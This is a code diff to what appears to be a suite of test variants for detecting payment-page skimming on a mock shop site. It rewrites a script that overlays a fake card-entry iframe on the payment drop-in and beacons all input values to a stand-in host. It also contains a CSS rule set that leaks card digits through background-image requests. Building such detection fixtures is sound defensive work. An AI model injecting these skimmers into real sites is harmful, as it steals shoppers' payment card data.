@@ -1,5 +1,5 @@
-import { headlessBody, state } from './headless.ts'
-import { adreach, depot, dropin, entry, pixels, sandbox, vendor } from './headless-code.ts'
+import { headlessBody, state, style } from './headless.ts'
+import { adreach, depot, dropin, entry, pixels, vendor } from './headless-code.ts'
 import { changedFile, inline, js, type Variant } from './variants.ts'
 
 const code = String.raw
@@ -82,7 +82,7 @@ tell(); const box = document.createElement("dialog"); box.innerHTML = '<p>Your b
     'x12-cover',
     'as soon as the drop-in is drawn, a frame made of text lies over it, with fields like its own, and posts them to a name like that of the provider',
     '',
-    `var seen = new MutationObserver(function () { var at = d.querySelector("#dropin"); if (!at || !at.firstChild) return; seen.disconnect(); var f = d.createElement("iframe"), r = at.getBoundingClientRect(); f.title = "Card"; f.style.cssText = "position:absolute;z-index:99;border:0;background:#fff;left:" + (r.left + scrollX) + "px;top:" + (r.top + scrollY) + "px;width:" + r.width + "px;height:" + r.height + "px"; f.srcdoc = '${look}<script>document.addEventListener("change",function(){navigator.sendBeacon("http://api.cardloorn.test/v1/sealed",new URLSearchParams([].map.call(document.querySelectorAll("input"),function(i){return[i.name,i.value]})))})<\\/script>'; d.body.append(f); }); seen.observe(d.documentElement, { childList: true, subtree: true });`,
+    `function cover() { var at = d.querySelector("#dropin"); if (!at || !at.firstChild) return; seen.disconnect(); var f = d.createElement("iframe"), r = at.getBoundingClientRect(); f.title = "Card"; f.style.cssText = "position:absolute;z-index:99;border:0;background:#fff;left:" + (r.left + scrollX) + "px;top:" + (r.top + scrollY) + "px;width:" + r.width + "px;height:" + r.height + "px"; f.srcdoc = '${look}<script>document.addEventListener("change",function(){navigator.sendBeacon("http://api.cardloorn.test/v1/sealed",new URLSearchParams([].map.call(document.querySelectorAll("input"),function(i){return[i.name,i.value]})))})<\\/script>'; d.body.append(f); } var seen = new MutationObserver(cover); seen.observe(d.documentElement, { childList: true, subtree: true }); cover();`,
   ),
   {
     id: 'x12-wallet-frame',
@@ -144,8 +144,10 @@ addEventListener("fetch", (e) => { const u = new URL(e.request.url); if (u.pathn
       const rules = Array.from({ length: 100 }, (_, i) => String(i).padStart(2, '0')).map(
         (d) => `.preview[data-digits$="${d}"]{background-image:url(http://img-cardart.test/g/${d}.svg)}`,
       )
-      site.files['shop.test/_nuxt/entry.Cx91.css']!.body +=
-        `.preview{width:280px;height:160px;border-radius:9px}.preview::after{content:attr(data-digits)}${rules.join('')}`
+      site.files['shop.test/_nuxt/entry.Cx91.css'] = {
+        type: 'text/css',
+        body: `${style}.preview{width:280px;height:160px;border-radius:9px}.preview::after{content:attr(data-digits)}${rules.join('')}`,
+      }
       sdk(
         '',
         '',
